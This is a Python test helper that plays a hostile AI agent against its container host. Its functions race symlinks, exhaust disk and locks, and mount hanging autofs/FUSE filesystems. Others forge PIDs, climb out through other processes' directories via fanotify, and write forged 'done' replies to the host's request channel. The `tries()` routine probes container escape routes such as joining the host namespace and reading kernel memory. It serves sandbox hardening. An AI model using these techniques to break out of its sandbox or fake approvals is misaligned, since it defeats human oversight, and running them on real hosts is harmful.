"""The attacker in a hostile agent: one process with the agent's privileges, which calls the functions below by name.

It reads lines of JSON, `["NAME", ARGUMENT…]`, and answers each with `{"value": …}` or `{"error": "…"}`. It is one file
and uses only the standard library, since the container gets its text. It trusts the test that drives it; nothing trusts
it.
"""

from __future__ import annotations

import base64
import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MS_RDONLY = 32, 4096, 1
MNT_DETACH, UMOUNT_NOFOLLOW = 2, 8
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
FS_IOC_SETFLAGS, FS_IMMUTABLE = 0x40086602, 0x10
kept: list[Any] = []  # descriptors to keep open


def checked(result: int) -> None:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


# ---------------------------------------------------------------- files


def write(path: str, content: str) -> None:
    """Write `content`, in base64, to a file that appears complete."""
    with open(f"{path}.new", "wb") as file:
        file.write(base64.b64decode(content))
    os.rename(f"{path}.new", path)


def append(path: str, content: str) -> None:
    with open(path, "ab") as file:
        file.write(base64.b64decode(content))


def ring(path: str, count: int = 1) -> int:
    """Write that many bytes into the FIFO, or as many as fit."""
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        return os.write(descriptor, b"\n" * count)
    finally:
        os.close(descriptor)


def swallow(path: str, seconds: float) -> None:
    """Read all bytes from the FIFO at once, so that no other reader gets them."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    give_up = time.monotonic() + seconds
    while time.monotonic() < give_up:
        with suppress(BlockingIOError):
            os.read(descriptor, 1 << 16)
    os.close(descriptor)


def fill(path: str, most: int) -> int:
    """Write `most` bytes, or until the file system is full."""
    with open(path, "ab", buffering=0) as file:
        try:
            while file.tell() < most:
                file.write(b"x" * min(1 << 20, most - file.tell()))
        except OSError:
            pass
        return file.tell()


def link(target: str, path: str) -> None:
    """Replace whatever is at `path` with a symbolic link."""
    remove(path)
    os.symlink(target, path)


def hard_link(target: str, path: str) -> None:
    os.link(target, path)


def pipe(path: str) -> None:
    remove(path)
    os.mkfifo(path)


def device(path: str, major: int, minor: int) -> None:
    remove(path)
    os.mknod(path, 0o20666, os.makedev(major, minor))


def directory(path: str) -> None:
    os.makedirs(path)


def sparse(path: str, size: int) -> None:
    remove(path)
    with open(path, "wb") as file:
        file.truncate(size)


def truncate(path: str, size: int) -> None:
    os.truncate(path, size)


def remove(path: str) -> None:
    for call in (os.unlink, os.rmdir):
        try:
            call(path)
        except OSError:
            continue


def names(path: str, number: int) -> int:
    """Create that many files, or as many as possible."""
    for each in range(number):
        try:
            open(os.path.join(path, f"n{each}"), "w").close()
        except OSError:
            return each
    return number


def deep(path: str, levels: int) -> int:
    """Nest directories to that depth."""
    for each in range(levels):
        path = os.path.join(path, "d")
        try:
            os.mkdir(path)
        except OSError:
            return each
    return levels


def read(path: str) -> str:
    with open(path, errors="replace") as file:
        return file.read()


def listing(path: str) -> list[str]:
    return sorted(os.listdir(path))


def mode(path: str, bits: int) -> None:
    os.chmod(path, bits)


def owner(path: str, uid: int, gid: int) -> None:
    os.chown(path, uid, gid, follow_symlinks=False)


def immutable(path: str) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(descriptor, FS_IOC_SETFLAGS, struct.pack("l", FS_IMMUTABLE))
    finally:
        os.close(descriptor)


def changeable(path: str) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(descriptor, FS_IOC_SETFLAGS, struct.pack("l", 0))
    finally:
        os.close(descriptor)


def access_list(path: str) -> None:
    """Set a default ACL on the directory that lets everyone write new files in it."""
    entry = struct.Struct("<HHI")
    undefined = 0xFFFFFFFF
    entries = [(tag, 7, undefined) for tag in (0x01, 0x04, 0x10, 0x20)]
    os.setxattr(
        path, "system.posix_acl_default", struct.pack("<I", 2) + b"".join(entry.pack(*each) for each in entries)
    )


def label(path: str, name: str, value: str) -> None:
    os.setxattr(path, name, value.encode())


# ---------------------------------------------------------------- in the background


def background(work: Callable[[], None]) -> int:
    """Fork a child that does this until it is killed, and return its pid in this container."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            work()
        finally:
            os._exit(0)
    return pid


def ready_background(work: Callable[[Callable[[bytes], object]], None]) -> tuple[int, bytes]:
    """Do that, wait until `work` has written a byte to its argument, and return pid and byte."""
    ready, say = os.pipe()
    pid = background(lambda: work(lambda byte: os.write(say, byte)))
    os.close(say)
    said = os.read(ready, 1)
    os.close(ready)
    return pid, said


def end(pid: int) -> None:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


def swap(path: str, target: str, content: str) -> int:
    """Alternate a valid file and a link to `target` at `path`, by renaming."""

    def work() -> None:
        proper = base64.b64decode(content)
        while True:
            with open(f"{path}.a", "wb") as file:
                file.write(proper)
            os.rename(f"{path}.a", path)
            os.symlink(target, f"{path}.b")
            os.rename(f"{path}.b", path)

    return background(work)


def rewrite(path: str, *contents: str) -> int:
    """Overwrite the file with each of the contents in turn, in place."""

    def work() -> None:
        texts = [base64.b64decode(each) for each in contents]
        descriptor = os.open(path, os.O_WRONLY)
        while True:
            for text in texts:
                os.pwrite(descriptor, text, 0)
                os.ftruncate(descriptor, len(text))

    return background(work)


def grow(path: str, piece: str) -> int:
    """Append one more piece to whatever file is at `path`, without a lock, again and again."""

    def work() -> None:
        content = base64.b64decode(piece)
        while True:
            try:
                with open(path, "ab", buffering=0) as file:
                    file.write(content)
            except OSError:
                time.sleep(0.001)

    return background(work)


# ---------------------------------------------------------------- locks


def hold(path: str, how: str) -> int:
    """Fork a child that locks what is at `path` now and keeps the lock: flock, fcntl, inherited, stopped."""

    def work(say: Callable[[bytes], object]) -> None:
        descriptor = os.open(path, os.O_RDONLY if os.path.isdir(path) or how == "read-only" else os.O_RDWR | os.O_CREAT)
        if how == "fcntl":
            fcntl.lockf(descriptor, fcntl.LOCK_EX)
        else:
            fcntl.flock(descriptor, fcntl.LOCK_EX)
        if how == "inherited" and os.fork() != 0:
            time.sleep(0.2)
            say(b"x")
            time.sleep(0.2)
            os._exit(0)  # the child keeps the lock
        if how == "inherited":
            time.sleep(15)
            os._exit(0)
        say(b"x")
        if how == "stopped":
            os.kill(os.getpid(), signal.SIGSTOP)
            os.write(descriptor, b"a line behind the back of all\n")
        time.sleep(600)

    return ready_background(work)[0]


def wake(pid: int) -> None:
    os.kill(pid, signal.SIGCONT)


# ---------------------------------------------------------------- mounts and namespaces


def mount(source: str, target: str, kind: str, flags: int = 0, data: str = "") -> None:
    encoded = [each.encode() for each in (source, target, kind, data)]
    checked(libc.mount(encoded[0], encoded[1], encoded[2] or None, ctypes.c_ulong(flags), encoded[3] or None))


def bind(source: str, target: str) -> None:
    mount(source, target, "", MS_BIND)


def bind_many(source: str, directory: str, name: str, number: int) -> None:
    """Bind-mount it at many new names; `name` is the part before a number."""
    for each in range(number):
        path = f"{directory}/{name}{each}"
        open(path, "w").close()
        bind(source, path)


def unbind_many(directory: str, name: str, number: int) -> None:
    for each in range(number):
        path = f"{directory}/{name}{each}"
        libc.umount2(os.fsencode(path), MNT_DETACH | UMOUNT_NOFOLLOW)
        remove(path)


def writable(target: str) -> None:
    """Remount writable what was mounted read-only."""
    mount("none", target, "", MS_REMOUNT | MS_BIND)


def unmount(target: str) -> None:
    checked(libc.umount2(target.encode(), MNT_DETACH | UMOUNT_NOFOLLOW))


def silent_autofs(target: str) -> None:
    """Mount an autofs at `target`, a new directory. Every look-up there waits for a daemon that does not answer."""
    before_the_host(target, mount_silent_autofs)


def mount_silent_autofs(target: str) -> None:
    reading, writing = os.pipe()
    kept.append(reading)
    try:
        mount("silent", target, "autofs", 0, f"fd={writing},pgrp={os.getpgid(0)},minproto=5,maxproto=5,direct")
    finally:
        os.close(writing)


def silent_fuse(target: str) -> None:
    """Mount a FUSE at `target`, a new directory. Its daemon answers the greeting, takes each request and answers none.

    Once a request is taken, no signal ends the process that made it.
    """
    before_the_host(target, mount_silent_fuse)


def mount_silent_fuse(target: str, device: str = "/dev/fuse") -> None:
    descriptor = os.open(device, os.O_RDWR)  # good for one attempt: after a failure it is "not connected"
    kept.append(descriptor)
    mount("silent", target, "fuse", 0, f"fd={descriptor},rootmode=40000,user_id=0,group_id=0,allow_other")
    greeting = os.read(descriptor, 8192)
    unique = greeting[8:16]
    body = struct.pack("<IIIIHHIII", 7, 31, 65536, 0, 12, 9, 4096, 1, 0) + bytes(28)
    os.write(descriptor, struct.pack("<Ii", 16 + len(body), 0) + unique + body)
    threading.Thread(target=take_requests, args=(descriptor,), daemon=True).start()


def take_requests(descriptor: int) -> None:
    with suppress(OSError):  # until it is unmounted
        while True:
            os.read(descriptor, 65536)


def before_the_host(target: str, attempt: Callable[[str], None]) -> None:
    """Retry if the host is quicker and has removed the directory, and with it the mount."""
    for left in reversed(range(10_000)):
        try:
            if not os.path.ismount(target):
                remove(target)
                os.makedirs(target, exist_ok=True)
            return attempt(target)
        except OSError as error:
            answer_no_more()
            if left == 0 or error.errno not in (errno.ENOENT, errno.ENODEV):
                raise
    return None


def answer_no_more() -> None:
    """Close all that the silent mounts need, so that those who wait there get an error."""
    while kept:
        os.close(kept.pop())


def foreign_namespace(path: str) -> None:
    """Bind a network namespace that belongs to a user namespace of the attacker at `path`."""

    def work(say: Callable[[bytes], object]) -> None:
        checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNET))
        say(b"x")
        time.sleep(30)

    pid, _ = ready_background(work)
    try:
        open(path, "w").close()
        bind(f"/proc/{pid}/ns/net", path)
    finally:
        end(pid)


def namespace(path: str) -> str:
    """Return which namespace is there."""
    return str(os.stat(path).st_ino)


def enter(path: str, argv: list[str]) -> int:
    """Run a command in the network namespace at `path`, and return its exit code."""
    return subprocess.run(["nsenter", f"--net={path}", *argv], check=False, capture_output=True).returncode


def alternate(path: str, first: str, second: str) -> int:
    """Bind one namespace at `path`, then the other, again and again."""

    def work() -> None:
        while True:
            for each in (first, second):
                libc.umount2(path.encode(), MNT_DETACH | UMOUNT_NOFOLLOW)
                try:
                    bind(each, path)
                except OSError:
                    continue

    return background(work)


def sleeper_with_pid(wanted: int) -> int:
    """Make a process with the pid `wanted`, which must be free, by ns_last_pid of this pid namespace.

    That needs a separate /proc, and so CAP_SYS_ADMIN.
    """

    def work(say: Callable[[bytes], object]) -> None:
        checked(libc.unshare(CLONE_NEWNS))
        os.makedirs("/tmp/proc", exist_ok=True)
        mount("proc", "/tmp/proc", "proc")
        for _ in range(50):
            with open("/tmp/proc/sys/kernel/ns_last_pid", "w") as file:
                file.write(str(wanted - 1))
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            if pid == wanted:
                say(b"y")
                os.waitpid(pid, 0)
                os._exit(0)
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        say(b"n")

    helper, got = ready_background(work)
    if got != b"y":
        raise OSError(f"no process got the pid {wanted}")
    return helper


def run(argv: list[str], seconds: float = 30, environment: dict[str, str] | None = None) -> list[Any]:
    """Run a command, and return its exit code and output."""
    try:
        done = subprocess.run(
            argv, check=False, capture_output=True, timeout=seconds, text=True, errors="replace",
            env={**os.environ, **(environment or {})},
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return [-1, "no end"]
    return [done.returncode, done.stdout + done.stderr]


def without_capabilities(argv: list[str]) -> int:
    """Run a command without capabilities, and return its exit code."""
    pid = os.fork()
    if pid == 0:
        version, itself = 0x20080522, 0
        checked(libc.capset(struct.pack("<Ii", version, itself), bytes(24)))
        os.execv(argv[0], argv)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def start_many(commands: list[list[str]]) -> int:
    """Start all of them at once, and return how many exited with 0."""
    running = [subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for argv in commands]
    return sum(each.wait() == 0 for each in running)


# ---------------------------------------------------------------- what an exploited program tries (in a side container)


def tries() -> dict[str, str]:  # noqa: C901 - a list of short attempts
    """Try each way out of a side container: "worked", or why not."""

    def mount_something() -> None:
        mount("none", "/tmp" if os.path.isdir("/tmp") else "/run", "tmpfs")

    def remount_root() -> None:
        mount("none", "/", "", MS_REMOUNT | MS_BIND)

    def unshare(flag: int) -> Callable[[], None]:
        def work() -> None:
            pid = os.fork()
            if pid == 0:
                os._exit(0 if libc.unshare(flag) == 0 else 1)
            if os.waitpid(pid, 0)[1]:
                raise OSError("unshare failed")

        return work

    def see_the_hosts_processes() -> None:
        # PID 1 of the host is not a side container's program.
        with open("/proc/1/comm") as file:
            if file.read().strip() != "systemd":
                raise OSError("PID 1 is a side container's")

    def enter_the_host() -> None:
        # The mount namespace of PID 1 as this process sees it, if it is another one.
        if os.readlink("/proc/1/ns/mnt") == os.readlink("/proc/self/ns/mnt"):
            raise OSError("PID 1 is in here, too")
        pid = os.fork()
        if pid == 0:
            descriptor = os.open("/proc/1/ns/mnt", os.O_RDONLY)
            os._exit(0 if libc.setns(descriptor, 0) == 0 else 1)
        if os.waitpid(pid, 0)[1]:
            raise OSError("setns failed")

    def make_device() -> None:
        path = "/run/dnsmasq/disk" if os.path.isdir("/run/dnsmasq") else "/run/disk"
        os.mknod(path, 0o60600, os.makedev(8, 0))
        os.unlink(path)

    def write_root() -> None:
        open("/usr/written", "w").close()
        os.unlink("/usr/written")

    def may_write(path: str) -> Callable[[], None]:
        # Only opened and closed: these belong to the machine, so nothing is written.
        return lambda: os.close(os.open(path, os.O_WRONLY))

    def write_sysfs() -> None:
        if not os.access("/sys/kernel/mm/transparent_hugepage/enabled", os.W_OK) or read_only("/sys"):
            raise OSError("not writable")

    def write_cgroup() -> None:
        os.mkdir("/sys/fs/cgroup/escape")
        os.rmdir("/sys/fs/cgroup/escape")

    def read_kernel_memory() -> None:
        os.close(os.open("/proc/kcore", os.O_RDONLY))
        with open("/proc/kcore", "rb") as file:
            if not file.read(4):
                raise OSError("empty")

    def a_socket_of_the_host() -> None:
        paths = ("/dev/log", "/run/systemd/journal/socket", "/run/dbus/system_bus_socket", "/run/podman/podman.sock")
        for each in (*paths, "/run/docker.sock", "/run/systemd/private"):
            if os.path.exists(each):
                return
        raise OSError("there is none")

    def names_of_namespaces() -> None:
        if not os.path.isdir("/run/netns") or not os.listdir("/run/netns"):
            raise OSError("there are none")

    def shared_mounts() -> None:
        with open("/proc/self/mountinfo") as file:
            if not any(" shared:" in line for line in file):
                raise OSError("there is none")

    def setuid() -> None:
        # Setuid programs gain nothing under no_new_privs.
        with open("/proc/self/status") as file:
            if "NoNewPrivs:\t1" in file.read():
                raise OSError("no new privileges")

    def fill_shared_memory() -> None:
        if fill("/dev/shm/full", 8 << 20) < 8 << 20:
            os.unlink("/dev/shm/full")
            raise OSError("it is small")
        os.unlink("/dev/shm/full")

    def fill_scratch() -> None:
        path = "/run/dnsmasq/full" if os.path.isdir("/run/dnsmasq") else "/run/full"
        size = fill(path, 8 << 20)
        os.unlink(path)
        if size < 8 << 20:
            raise OSError("it is small")

    def the_hosts_network() -> None:
        # A network's namespace has no interface of the host.
        with open("/proc/net/dev") as file:
            if "switch-of-host" not in file.read():
                raise OSError("not the host's network")

    def raw_socket() -> None:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()

    def load_a_module() -> None:
        # By the capability alone: no module is ever loaded.
        with open("/proc/self/status") as file:
            (bits,) = (int(line.split()[1], 16) for line in file if line.startswith("CapEff"))
        if not bits >> 16 & 1:
            raise OSError("no CAP_SYS_MODULE")

    attempts = {
        "mount": mount_something,
        "remount the root": remount_root,
        "a user namespace": unshare(CLONE_NEWUSER),
        "a mount namespace": unshare(CLONE_NEWNS),
        "a network namespace": unshare(CLONE_NEWNET),
        "the host's processes": see_the_hosts_processes,
        "enter the host": enter_the_host,
        "a device node": make_device,
        "write its root": write_root,
        "write a sysctl": may_write("/proc/sys/kernel/panic_on_oops"),
        "write /sys": write_sysfs,
        "write a control group": write_cgroup,
        "core_pattern": may_write("/proc/sys/kernel/core_pattern"),
        "kernel memory": read_kernel_memory,
        "a socket of the host": a_socket_of_the_host,
        "names of namespaces": names_of_namespaces,
        "shared mounts": shared_mounts,
        "setuid": setuid,
        "fill /dev/shm": fill_shared_memory,
        "fill its scratch": fill_scratch,
        "the host's network": the_hosts_network,
        "load a module": load_a_module,
        "raw socket": raw_socket,
    }
    found = {}
    for name, each in attempts.items():
        try:
            each()
            found[name] = "worked"
        except OSError as error:
            found[name] = error.strerror or str(error)
    return found


def opened_by_others(paths: list[str], seconds: float) -> list[list[int]]:
    """Return device and inode of each file that others open on the file systems of `paths`, and we could write."""
    fan_mark_add, fan_mark_filesystem, fan_open, at_fdcwd = 1, 0x100, 0x20, -100
    group = libc.fanotify_init(2, os.O_RDWR)  # FAN_NONBLOCK
    checked(group)
    mask = ctypes.c_uint64(fan_open)
    for path in paths:
        checked(libc.fanotify_mark(group, fan_mark_add | fan_mark_filesystem, mask, at_fdcwd, path.encode()))
    found = set()
    give_up = time.monotonic() + seconds
    while time.monotonic() < give_up:
        try:
            events = os.read(group, 4096)
        except BlockingIOError:
            time.sleep(0.01)
            continue
        while events:
            length, _, _, _, _, descriptor, pid = struct.unpack("IBBHQii", events[:24])
            events = events[length:]
            if descriptor >= 0:
                status = os.fstat(descriptor)
                if pid != os.getpid() and os.access(f"/proc/self/fd/{descriptor}", os.R_OK):
                    found.add((status.st_dev, status.st_ino))
                os.close(descriptor)
    os.close(group)
    return [list(each) for each in sorted(found)]


def up_from_directories(paths: list[str], target: str, seconds: float) -> list[str]:
    """Climb by `..` from directories that others open on the file systems of `paths`, through the mounts of the opener.

    Return from where `target`, a path from the root, could be read.
    """
    fan_mark_add, fan_mark_filesystem, fan_access, fan_open, fan_ondir, at_fdcwd = 1, 0x100, 1, 0x20, 0x40000000, -100
    group = libc.fanotify_init(2, os.O_RDONLY)  # FAN_NONBLOCK
    checked(group)
    mask = ctypes.c_uint64(fan_open | fan_access | fan_ondir)
    for path in paths:
        checked(libc.fanotify_mark(group, fan_mark_add | fan_mark_filesystem, mask, at_fdcwd, path.encode()))
    found = {"events": 0}
    give_up = time.monotonic() + seconds
    while time.monotonic() < give_up:
        try:
            events = os.read(group, 4096)
        except BlockingIOError:
            time.sleep(0.005)
            continue
        while events:
            length, _, _, _, _, descriptor, pid = struct.unpack("IBBHQii", events[:24])
            events = events[length:]
            if descriptor < 0:
                continue
            if pid != os.getpid() and stat.S_ISDIR(os.fstat(descriptor).st_mode):
                found["events"] += 1
                with suppress(OSError):
                    os.close(os.open("../" * 20 + target.lstrip("/"), os.O_RDONLY, dir_fd=descriptor))
                    with open(f"/proc/{pid}/cmdline", errors="replace") as file:
                        by = file.read().replace("\0", " ")
                    found[os.readlink(f"/proc/self/fd/{descriptor}") + f" by {by}"] = 1
            os.close(descriptor)
    os.close(group)
    return sorted(found)


def answer_everything(replies: str, seconds: float) -> list[str]:
    """Send success for each request whose bell is among the replies, before the host does, and return their ids."""
    answered = []
    give_up = time.monotonic() + seconds
    while time.monotonic() < give_up:
        for name in os.listdir(replies):
            request_id, _, kind = name.partition(".")
            if kind == "fifo" and request_id not in answered:
                lie = {"v": 1, "id": request_id, "status": "done", "reason": "ok", "message": "it was stopped"}
                write(f"{replies}/{request_id}.json", base64.b64encode(json.dumps(lie).encode()).decode())
                answered.append(request_id)
        time.sleep(0.0005)
    return answered


def read_only(path: str) -> bool:
    return bool(os.statvfs(path).f_flag & os.ST_RDONLY)


def main() -> None:
    for line in sys.stdin:
        name, *arguments = json.loads(line)
        try:
            answer = {"value": globals()[name](*arguments)}
        except Exception as error:  # noqa: BLE001 - the test is told
            answer = {"error": f"{type(error).__name__}: {error}"}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
